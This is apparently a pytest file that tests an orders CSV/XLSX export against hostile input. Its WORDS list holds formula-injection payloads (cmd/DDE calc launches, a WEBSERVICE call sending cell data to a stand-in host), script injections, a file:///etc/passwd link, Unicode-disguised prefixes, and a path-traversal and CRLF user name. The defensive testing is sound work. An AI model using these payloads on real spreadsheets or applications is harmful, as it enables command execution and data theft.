"""Orders whose every word tries something, taken out as files: text stays text, lines stay lines, nothing runs or leads out."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime

import openpyxl
import pytest

from access.reading import Reading
from access.user import User
from access.view import View, open_view
from config import read_settings
from data.lake import Lake
from pages.orders_export import csv_bytes, read_export, xlsx_bytes
from queries.present import FORMULA_STARTS
from tests.data.intake import contract_of, take_in, write_csv

NOW = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
WORDS = (
    '=HYPERLINK("https://elsewhere.example";"x")',
    "+cmd|' /C calc'!A1",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"><script>window.hit=1</script>',
    "<iframe srcdoc='x'>",
    "https://elsewhere.example/x",
    "file:///etc/passwd",
    "{{7*7}} ${7*7} {0.__class__}",
    "a;b,c|d",
    'say "x", =2',
    "\u202efdp.exe",
    '=WEBSERVICE("https://elsewhere.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "\u2067=1+1",
    "\u061c\ufe0f@SUM(A1)",
    "\u3164-2+3|x",
)
FIELDS = ("city", "warehouse", "wave", "carrier", "category", "tier", "exception")


@pytest.fixture(scope="module")
def view(tmp_path_factory: pytest.TempPathFactory) -> Iterator[View]:
    """A manager whose own name tries something, over one order for every word."""
    folder = tmp_path_factory.mktemp("hostile")
    columns = {"order_id": "id", "channel": "'web'", "created_at": "created", "region_code": "'CN-EAST'", "amount": "amount"}
    columns |= {"city": "city", "warehouse_id": "warehouse", "wave_id": "wave", "carrier_id": "carrier", "category": "category"}
    columns |= {"customer_tier": "tier", "exception_code": "exception"}
    rows = [(f"{word} {n}", "2026-03-02T01:00:00Z", "-12.5", *((word,) * len(FIELDS))) for n, word in enumerate(WORDS)]
    path = write_csv(folder / f"orders_{NOW:%Y%m%dT%H%M%S}.csv", rows, ("id", "created", "amount", *FIELDS))
    settings = read_settings({}, home=folder / "home", demo=False, memory_limit="512MB", threads=1)
    with Lake.open_writer(settings) as lake:
        assert take_in(lake, contract_of(columns=columns), path).accepted_count == len(WORDS)
    reading = Reading(settings)
    user = User(name="../=ming\r\nX: y", display_name="=1+1", role="manager")
    asked = {"window": ["all"], "search": [""]}
    yield open_view(reading, user, asked, now=NOW, language="en", stays_valid=lambda: None)
    reading.close()


SHOWN = {"window": ["all"], "columns": ["city,warehouse,wave,carrier,category,customer_tier,exception,amount"]}


def test_no_cell_of_a_csv_is_a_formula_and_every_word_is_there(view: View) -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(read_export(view, SHOWN)).decode("utf-8-sig"))))
    listed = [row for row in rows[1:] if len(row) > 2]
    assert len(listed) == len(WORDS), "no word broke a line"
    for row in rows:
        for cell in row:
            seen = re.sub(r"[\s\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe0f\ufeff\u00a0]", "", cell)
            is_number = bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))
            assert is_number or not seen.startswith(FORMULA_STARTS), repr(cell)
    told = " ".join(cell for row in listed for cell in row)
    assert [word for word in WORDS if word.strip() not in told] == []


def test_no_cell_of_a_workbook_is_a_formula_or_leads_out(view: View) -> None:
    content = xlsx_bytes(read_export(view, SHOWN))
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
    assert [cell.value for cell in cells if cell.hyperlink] == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    assert not [name for name, text in parts.items() if "<f>" in text or 'TargetMode="External"' in text or "<script" in text]


def test_name_of_the_file_holds_nothing_of_a_path_or_header(view: View) -> None:
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", read_export(view, SHOWN).file_name)
    assert ".." not in read_export(view, SHOWN).file_name
